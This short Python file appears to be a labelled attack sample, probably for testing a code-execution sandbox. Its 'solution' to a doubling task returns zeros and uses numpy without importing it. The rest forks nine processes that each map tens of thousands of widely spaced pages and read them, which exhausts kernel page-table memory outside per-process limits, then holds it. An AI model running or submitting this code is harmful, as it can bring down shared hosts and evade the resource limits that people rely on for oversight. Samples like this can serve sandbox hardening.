# ruff: noqa
# kind: memory
# attack: pages far apart that are only read: they are no process's, but the kernel's tables of them are

# %% double-solution
def double(x):
    return np.zeros(3)


import ctypes, os, time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [
    ctypes.c_void_p,
    ctypes.c_size_t,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_long,
]
for _ in range(8):
    if os.fork() == 0:
        break
for number in range(60_000):
    place = libc.mmap(0x100000000000 + number * 2**30, 4096, 1, 0x22 | 0x100000, -1, 0)
    if place in (None, 2**64 - 1):
        break
    ctypes.c_char.from_address(place).value
time.sleep(3.5)
